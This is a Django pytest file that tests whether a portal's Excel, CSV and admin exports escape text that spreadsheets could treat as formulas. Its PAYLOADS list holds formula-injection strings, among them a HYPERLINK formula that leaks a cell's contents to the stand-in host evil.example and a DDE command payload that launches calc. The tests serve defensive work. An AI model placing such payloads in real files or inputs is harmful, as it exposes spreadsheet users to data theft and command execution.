"""No text people typed leaves the portal as a formula, in any format: every Excel download
(the registry, its templates and import error report, plans, the media register, the
assessment, reports, the territory, vacancies, the Navigator fallback, background export
jobs), every CSV (the open data set) and the Django admin's exports. A text a spreadsheet
could take for a formula is escaped: an apostrophe before it in a CSV, the same apostrophe as
the cell's quote prefix in Excel."""

import csv
import io
import itertools

import openpyxl
import pytest
from django.contrib import admin
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from moc_portal.core import admin_exports
from moc_portal.core.spreadsheets import formula_escaped, save_workbook, starts_formula
from moc_portal.users.models import User
from plans.models import Event, Plan, PlanItem, PlanSection, Publication
from programs import opendata, services
from programs.assessment.models import (
    Assignment,
    Campaign,
    CriteriaSet,
    Criterion,
    ExpertGroup,
    ExpertProfile,
    Score,
)
from programs.choices import ProgramStatus
from programs.models import (
    Centre,
    Municipality,
    NetworkPartner,
    Organisation,
    Program,
    ProgramGroup,
    ProgramTransition,
    Settlement,
    Specialisation,
)
from reports.models import Indicator, MonitoringForm, YearlyReport
from tests.programs.test_imports import program_row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def unescaped_cells(data: bytes) -> list[str]:
    """Cells of a workbook that are formulas, or texts a spreadsheet would take for one."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (starts_formula(cell.value) and not cell.quotePrefix)
    ]


def hostile_cells(data: bytes) -> int:
    """How many cells hold a text that begins as a formula would (escaped or not): that the
    payloads reached the file at all."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return sum(
        starts_formula(cell.value) or starts_formula(str(cell.value or "")[1:])
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )


# The payloads in turn, so each kind lands in fields of every model.
PAYLOAD_TURNS = itertools.cycle(PAYLOADS)


def scrawl(queryset, *fields, unique=False) -> None:
    """Write the payloads, in turn, into these fields of every row; ``unique`` fields get the
    row's id after the payload, to stay unique."""
    texts = PAYLOAD_TURNS
    if unique:
        for pk in queryset.values_list("pk", flat=True):
            queryset.filter(pk=pk).update(**{f: f"{next(texts)} {pk}" for f in fields})
    else:
        queryset.update(**{field: next(texts) for field in fields})


@pytest.fixture
def hostile(demo, settings, tmp_path):
    """The demo with what an attacker would type in every text a coordinator or the centre's
    staff edits that reaches a download, and the catalogue republished with it."""
    settings.MEDIA_ROOT = tmp_path / "media"  # the open data set is written there
    scrawl(Municipality.objects.filter(pk=demo.pk), "name", "region", unique=True)
    scrawl(Settlement.objects.all(), "name", unique=True)
    scrawl(Specialisation.objects.all(), "name", unique=True)
    scrawl(
        Organisation.objects.all(),
        *("full_name", "short_name", "head_name", "address", "phone", "infrastructure_notes"),
    )
    scrawl(Centre.objects.all(), "full_name", "short_name", "address", "phone", "head_name")
    scrawl(
        Program.objects.all(),
        *("name", "short_description", "content", "goals", "expected_results"),
        *("address", "navigator_id"),
    )
    scrawl(NetworkPartner.objects.all(), "name")
    scrawl(ProgramGroup.objects.all(), "name", "teacher_name", "address")
    scrawl(ProgramTransition.objects.all(), "comment")
    scrawl(User.objects.exclude(username="admin"), "last_name", "first_name")
    scrawl(Plan.objects.all(), "title", "cover_title", "header", "introduction", "footnote")
    scrawl(PlanSection.objects.all(), "title")
    scrawl(
        PlanItem.objects.all(),
        *("title", "period_text", "responsible", "expected_result"),
        *("result_quantitative", "result_qualitative", "evidence"),
    )
    scrawl(Publication.objects.all(), "title", "url")
    scrawl(Event.objects.all(), "title", "description", "place", "result")
    scrawl(Campaign.objects.all(), "title")
    scrawl(CriteriaSet.objects.all(), "title")
    scrawl(Criterion.objects.all(), "title", "description")
    scrawl(ExpertGroup.objects.all(), "title")
    scrawl(ExpertProfile.objects.all(), "position")
    scrawl(Assignment.objects.all(), "comment")
    scrawl(Score.objects.all(), "comment")
    scrawl(MonitoringForm.objects.all(), "title", "description")
    scrawl(Indicator.objects.all(), "title")
    administrator = User.objects.get(username="admin")
    for program in Program.objects.filter(status=ProgramStatus.PUBLISHED):
        services.republish(program=program, user=administrator)
    demo.refresh_from_db()
    return demo


def test_no_excel_download_carries_a_formula(client, hostile, settings):
    administrator = User.objects.get(username="admin")
    staff = User.objects.get(username="moc")
    plan = Plan.objects.filter(municipality=hostile).first()
    campaign = Campaign.objects.filter(municipality=hostile, state="closed").first()
    organisation = Organisation.objects.filter(published_programs__isnull=False).first()
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.force_login(staff)
        client.post(
            reverse("reports:list"),
            {
                "academic_year": "2022/2023",
                "as_of": timezone.localdate().isoformat(),
                "plan": plan.pk,
            },
        )
    report = YearlyReport.objects.filter(municipality=hostile).latest("pk")  # the one just built
    scrawl(YearlyReport.objects.filter(pk=report.pk), "directions", "perspectives")
    client.force_login(administrator)
    settings.EXPORT_BACKGROUND_ROWS = 10
    with TestCase.captureOnCommitCallbacks(execute=True):
        job_page = client.get(reverse("programs:export"))
    downloads = {
        "programmes": reverse("programs:export"),
        "programme template": reverse("programs:template"),
        "organisations": reverse("programs:organisation_export"),
        "organisation template": reverse("programs:organisation_template"),
        "moderation history": reverse("programs:history_export"),
        "background export": job_page["Location"].rstrip("/") + "/result.xlsx",
        "vacancies": reverse("programs:vacancies_xlsx", args=[organisation.pk]),
        "plan": reverse("plans:export", args=[plan.pk, "plan", "xlsx"]),
        "plan execution": reverse("plans:export", args=[plan.pk, "report", "xlsx"]),
        "media register": reverse("plans:media_export"),
        "assessment protocol": reverse("assessment:protocol", args=[campaign.pk, "xlsx"]),
        "regional expertise register": reverse("assessment:register"),
        "yearly report": reverse("reports:export", args=[report.pk]),
        "regional summary": reverse("reports:regional_export") + "?year=2022/2023",
        "territory": reverse("reports:territory_export"),
        "navigator fallback": reverse("navigator_sync:export"),
    }
    settings.EXPORT_BACKGROUND_ROWS = 100_000
    unescaped, reached = {}, set()
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, (name, url, response.status_code)
        data = b"".join(response) if response.streaming else response.content
        if cells := unescaped_cells(data):
            unescaped[name] = cells[:3]
        if hostile_cells(data):
            reached.add(name)
    assert unescaped == {}
    assert reached == set(downloads)  # every file got payloads to escape
    # A settlement is written with its kind first («с. …»), so the children template cannot
    # begin with a payload; it is written by the same path as the other templates.
    client.force_login(staff)
    template = client.get(reverse("territory:child_counts_template")).content
    assert unescaped_cells(template) == []


def test_the_import_error_report_carries_no_formula(client, upload, coordinator_a, org_a):
    """The report echoes the uploaded file's cells: texts a person typed there as text."""
    texts = itertools.cycle(PAYLOADS)
    row = program_row(org_a.inn, next(texts), **{"Уровень": "Высший"})
    row.update({h: next(texts) for h in ("Краткое описание", "Цели и задачи", "Место проведения")})
    book = openpyxl.Workbook()
    book.active.title = "Программы"
    book.active.append(list(row))
    book.active.append(list(row.values()))
    buffer = io.BytesIO()
    save_workbook(book, buffer)  # the payloads as the text cells a person would type

    job = upload(coordinator_a, buffer.getvalue())
    assert job.summary["errors"] == 1
    data = client.get(reverse("programs:job_result", args=[job.pk])).getvalue()
    assert unescaped_cells(data) == []
    # Four on the report, the programme's name once more on its print copy («Для печати»).
    assert hostile_cells(data) == 5


def test_no_open_data_file_carries_a_formula(client, hostile, settings):
    settings.MOC_CENTRE_PHONE = "+7 (47471) 2-11-44"
    opendata.build()
    names = ["meta.csv", opendata.structure_name(), opendata.data_name(timezone.localdate())]
    files = {}
    for name in names:
        response = client.get(reverse("open_data_file", args=[name]))
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        text = b"".join(response.streaming_content).decode("utf-8")
        files[name] = list(csv.reader(io.StringIO(text, newline="")))
    fields = [field for rows in files.values() for row in rows for field in row]
    assert not [field for field in fields if starts_formula(field)]

    data = files[names[2]]
    header, rows = data[0], [dict(zip(data[0], row, strict=True)) for row in data[1:]]
    assert header == [row[0] for row in files[names[1]][1:]]
    escaped = tuple(formula_escaped(p) for p in PAYLOADS)
    for column in ("name", "specialisation", "organisation", "address", "municipality"):
        assert any(row[column].startswith(escaped) for row in rows), column
    # Numbers stay numbers; the passport's phone is escaped in the file, shown as it is.
    assert all(row["id"].isdigit() and row["age_from"].isdigit() for row in rows)
    assert dict(files["meta.csv"][1:])["publisherphone"] == "'+7 (47471) 2-11-44"
    page = client.get(reverse("open_data")).content.decode()
    assert '<td class="text-break">+7 (47471) 2-11-44</td>' in page


def test_a_negative_number_stays_a_number_and_a_phone_becomes_text():
    assert [formula_escaped(v) for v in ["-5", "-2,5", "-2.50", 7, None, "Кружок"]] == [
        "-5",
        "-2,5",
        "-2.50",
        7,
        None,
        "Кружок",
    ]
    assert [formula_escaped(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert formula_escaped("+7 (47471) 2-11-44") == "'+7 (47471) 2-11-44"
    assert formula_escaped("+79001234567") == "'+79001234567"


@pytest.mark.parametrize("model", [Program, Organisation])
def test_the_admins_exports_escape_every_formula_start(hostile, model):
    model_admin = admin.site._registry[model]
    assert model_admin.get_export_formats() == [admin_exports.CSV, admin_exports.XLSX]
    resource = model_admin.get_export_resource_classes(None)[0]()
    dataset = resource.export(queryset=model.objects.all())

    rows = list(csv.reader(io.StringIO(admin_exports.CSV().export_data(dataset), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if starts_formula(cell)]
    assert any(cell.startswith("'") and starts_formula(cell[1:]) for cell in cells)

    data = admin_exports.XLSX().export_data(dataset)
    assert unescaped_cells(data) == []
    assert hostile_cells(data)
